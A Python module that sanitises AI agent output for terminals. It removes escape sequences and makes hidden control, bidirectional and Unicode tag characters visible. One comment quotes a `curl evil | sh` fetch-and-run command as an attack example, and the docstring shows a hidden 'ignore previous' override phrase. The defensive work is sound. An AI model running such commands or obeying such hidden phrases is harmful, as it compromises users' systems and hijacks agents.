"""Neutralise agent text before it reaches a terminal or a page: no escape sequence may act."""

from __future__ import annotations

import functools
import re
from typing import Final, NamedTuple

__all__ = ["Rules", "neutralize", "rules"]

# Colour, cursor and erase sequences (CSI with numeric parameters and one of a few final
# bytes) carry no text: they are removed, so coloured output reads cleanly. Any other
# CSI sequence keeps its bytes on screen behind a visible ␛ (`␛[ |`): its parameter
# and intermediate bytes may be the text a reader must see (`i.sh\e[ | sh`). Every other
# control character, the ESC that opens an OSC, DCS, PM or APC string included, becomes
# a visible stand-in, so the string's payload stays on screen as text: `ls -la <OSC>…
# curl evil | sh` still shows the `curl` part. Possessive runs: no backtracking.
_CSI: Final = r"(?:\x1b\[|\x9b)(?:[0-9;:]*+[A-HJKSTfm]|\?[0-9;]*+[hl])"


def _stand_in(code: int) -> str:
    if code < 0x20:
        return chr(0x2400 + code)  # the Unicode "control pictures" block: ␀ ␇ ␈ ␛ ...
    if code == 0x7F:
        return "\u2421"  # ␡
    return f"<U+{code:04X}>"


def _table() -> dict[int, str]:
    """The stand-in of every control character and lone surrogate (``str.translate``'s table)."""
    table = {
        code: _stand_in(code)
        for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]
        if code not in (0x09, 0x0A)
    }
    # Lone surrogates (from a decoder's surrogateescape) cannot be written to a UTF-8 stream.
    table.update(dict.fromkeys(range(55296, 57344), "�"))
    return table


# Characters that show nothing yet change what text means or says: bidirectional marks,
# overrides and isolates (the "Trojan Source" trick), zero-width spaces, joiners and
# other invisible format characters, interlinear annotations, variation selectors
# beyond the emoji ones, and Unicode tag characters (which spell out hidden ASCII).
_INVISIBLE: Final = (
    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb"
    "\U0001d173-\U0001d17a\U000e0000-\U000e007f\U000e0100-\U000e01ef"
)
_TAG_BASE: Final = 0xE0000
# What stays as it is: a joiner between two emoji (👨‍👩‍👧) and the tags of a subdivision
# flag (🏴 + "gbsct" + cancel tag); every other invisible character is shown, a run of tag
# characters as the ASCII it spells.
_EMOJI: Final = "\u2600-\u27bf\U0001f000-\U0001faff"
_HIDDEN: Final = (
    "(\U0001f3f4[\U000e0030-\U000e0039\U000e0061-\U000e007a]{1,7}\U000e007f)"
    f"|(?<=[{_EMOJI}\ufe0f])(\u200d)(?=[{_EMOJI}])"
    "|([\U000e0020-\U000e007e]++)"
    f"|([{_INVISIBLE}])"
)
_UNSAFE: Final = f"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff{_INVISIBLE}]"
# The ASCII characters of _UNSAFE: every control but tab and newline, and DEL. Most text
# is ASCII, and a small class costs a fraction of the whole one a character.
_UNSAFE_ASCII: Final = "[\x00-\x08\x0b-\x1f\x7f]"


class Rules(NamedTuple):
    """The compiled rules (see :func:`rules`)."""

    csi: re.Pattern[str]
    hidden: re.Pattern[str]
    unsafe: re.Pattern[str]
    unsafe_ascii: re.Pattern[str]
    table: dict[int, str]


@functools.cache
def rules() -> Rules:
    """The rules, compiled when first text needs them: compiling them cost ~12 M
    instructions, 5% of a one-line render whose text is plain ASCII."""
    return Rules(
        re.compile(_CSI),
        re.compile(_HIDDEN),
        re.compile(_UNSAFE),
        re.compile(_UNSAFE_ASCII),
        _table(),
    )


def _shown(found: re.Match[str]) -> str:
    kept = found.group(1) or found.group(2)
    if kept:
        return kept
    tags = found.group(3)
    if tags:
        return "<tags:" + "".join(chr(ord(char) - _TAG_BASE) for char in tags) + ">"
    return f"<U+{ord(found.group(4)):04X}>"


def neutralize(text: str) -> str:
    """``text`` made safe to print: colour and cursor sequences removed, the rest visible.

    Newlines and tabs are kept; carriage returns, backspaces, bells and the
    escape character become visible symbols (``␍ ␈ ␇ ␛``), so a log can
    neither move the cursor, rewrite earlier output, set the window title, ring
    the bell nor plant a hyperlink, and the text of a title, hyperlink or
    clipboard string stays visible instead of silently disappearing. Invisible
    characters (zero-width spaces and joiners, bidirectional marks) show as
    ``<U+200B>``, and a run of Unicode tag characters as the text it hides,
    ``<tags:ignore previous>``; emoji joined by them stay emoji.
    """
    if text.isascii():
        if text.isprintable():  # no control character at all: the common text, no regex
            return text
        compiled = rules()
        if compiled.unsafe_ascii.search(text) is None:  # tabs and newlines only
            return text
    else:
        compiled = rules()
        if compiled.unsafe.search(text) is None:
            return text
    return compiled.hidden.sub(_shown, compiled.csi.sub("", text)).translate(compiled.table)
